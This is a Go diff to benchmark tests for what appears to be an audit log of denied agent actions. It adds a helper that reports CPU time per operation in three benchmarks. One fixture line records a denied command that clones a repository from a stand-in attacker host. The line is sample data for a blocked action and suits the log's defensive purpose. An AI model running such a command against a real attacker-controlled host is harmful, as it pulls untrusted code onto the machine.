@@ -4,8 +4,29 @@ import (
 	"bytes"
 	"crypto/sha256"
 	"os"
+	"syscall"
 	"testing"
+	"time"
 )
+
+// reportCPU adds the process's CPU time per operation (user + system, all
+// threads, GC included) as "cpu-ns/op": on a machine shared with other
+// work, wall time per op says more about the load than about the code.
+// Call it before the loop.
+func reportCPU(b *testing.B) {
+	start := cpuTime()
+	b.Cleanup(func() {
+		if b.N > 0 {
+			b.ReportMetric(float64(cpuTime()-start)/float64(b.N), "cpu-ns/op")
+		}
+	})
+}
+
+func cpuTime() time.Duration {
+	var ru syscall.Rusage
+	syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
+	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
+}
 
 // BenchmarkAppend is one durable event: lock, read the tail, encode,
 // write, fdatasync, unlock. Run it on a real disk (t.TempDir is on the
@@ -14,6 +35,7 @@ func BenchmarkAppend(b *testing.B) {
 	l, _ := openTest(b)
 	ev := denial("run_tests", "git", "clone", "https://attacker.example/repo")
 	b.ReportAllocs()
+	reportCPU(b)
 	for b.Loop() {
 		if _, err := l.Append(ev); err != nil {
 			b.Fatal(err)
@@ -44,6 +66,7 @@ func BenchmarkVerify(b *testing.B) {
 	data := benchLog(b)
 	b.SetBytes(int64(len(data)))
 	b.ReportAllocs()
+	reportCPU(b)
 	for b.Loop() {
 		if _, err := Verify(bytes.NewReader(data)); err != nil {
 			b.Fatal(err)
@@ -56,6 +79,7 @@ func BenchmarkVerify(b *testing.B) {
 func BenchmarkPeerSHA256Lines(b *testing.B) {
 	data := benchLog(b)
 	b.SetBytes(int64(len(data)))
+	reportCPU(b)
 	for b.Loop() {
 		for line := range bytes.Lines(data) {
 			sha256.Sum256(line)
